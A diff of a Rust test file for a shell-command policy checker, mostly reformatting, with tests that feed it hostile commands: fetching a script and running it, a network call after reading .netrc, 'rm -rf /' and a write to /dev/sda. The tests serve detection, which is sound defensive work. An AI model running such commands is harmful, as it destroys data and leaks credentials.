@@ -3,7 +3,7 @@
 mod support;
 
 use gatehouse_policy::Verdict::{Allow, Ask, Deny};
-use gatehouse_policy::{Reach, Target, Taint, World, shell};
+use gatehouse_policy::{Reach, Taint, Target, World, shell};
 use support::{analyse, check, codes, world};
 
 #[test]
@@ -155,26 +155,54 @@ fn what_came_from_elsewhere_is_not_run() {
 #[test]
 fn a_session_carries_what_it_read_and_fetched() {
     let first = analyse("curl -s https://x.invalid/a > a.sh");
-    assert!(first.taint.fetched.contains("/home/dev/project/a.sh"), "{:?}", first.taint);
-    let later = World { taint: first.taint, ..world() };
+    assert!(
+        first.taint.fetched.contains("/home/dev/project/a.sh"),
+        "{:?}",
+        first.taint
+    );
+    let later = World {
+        taint: first.taint,
+        ..world()
+    };
     let second = shell::analyse("sh a.sh", &later);
     assert_eq!(second.verdict, Deny, "{:?}", codes(&second));
     let tainted = World {
-        taint: Taint { secrets: ["/home/dev/.netrc".to_owned()].into(), ..Taint::default() },
+        taint: Taint {
+            secrets: ["/home/dev/.netrc".to_owned()].into(),
+            ..Taint::default()
+        },
         ..world()
     };
     let network = shell::analyse("curl -s https://x.invalid", &tainted);
-    assert!(network.findings.iter().any(|f| f.code == "secret-then-network"), "{:?}", codes(&network));
+    assert!(
+        network
+            .findings
+            .iter()
+            .any(|f| f.code == "secret-then-network"),
+        "{:?}",
+        codes(&network)
+    );
 }
 
 #[test]
 fn findings_say_where_and_what() {
     let line = "ls && rm -rf / && cat x > /dev/sda";
     let analysis = analyse(line);
-    let root = analysis.findings.iter().find(|f| f.code == "delete-root").expect("it is found");
+    let root = analysis
+        .findings
+        .iter()
+        .find(|f| f.code == "delete-root")
+        .expect("it is found");
     let span = root.span.expect("it has a place");
-    assert!(line[span.start as usize..span.end as usize].contains('/'), "{span:?}");
-    let device = analysis.findings.iter().find(|f| f.code == "device-write").expect("it is found");
+    assert!(
+        line[span.start as usize..span.end as usize].contains('/'),
+        "{span:?}"
+    );
+    let device = analysis
+        .findings
+        .iter()
+        .find(|f| f.code == "device-write")
+        .expect("it is found");
     let span = device.span.expect("it has a place");
     assert_eq!(&line[span.start as usize..span.end as usize], "/dev/sda");
 }
@@ -183,7 +211,11 @@ fn findings_say_where_and_what() {
 fn commands_are_listed_with_how_they_come_to_run() {
     let analysis = analyse("sudo env A=1 ls \"$X\"; sh -c 'wc -l y'");
     let reach = |name: &str| {
-        analysis.commands.iter().find(|c| c.argv[0] == name).map(|c| (c.reach, c.exact))
+        analysis
+            .commands
+            .iter()
+            .find(|c| c.argv[0] == name)
+            .map(|c| (c.reach, c.exact))
     };
     assert_eq!(reach("sudo"), Some((Reach::Direct, false)));
     assert_eq!(reach("ls"), Some((Reach::Wrapped, false)));
@@ -194,7 +226,10 @@ fn commands_are_listed_with_how_they_come_to_run() {
 fn effects_are_those_of_the_folder_that_the_shell_is_in() {
     let analysis = analyse("cd /tmp && touch a");
     assert!(
-        analysis.effects.iter().any(|e| e.target == Target::Path("/tmp/a".to_owned())),
+        analysis
+            .effects
+            .iter()
+            .any(|e| e.target == Target::Path("/tmp/a".to_owned())),
         "{:?}",
         analysis.effects
     );
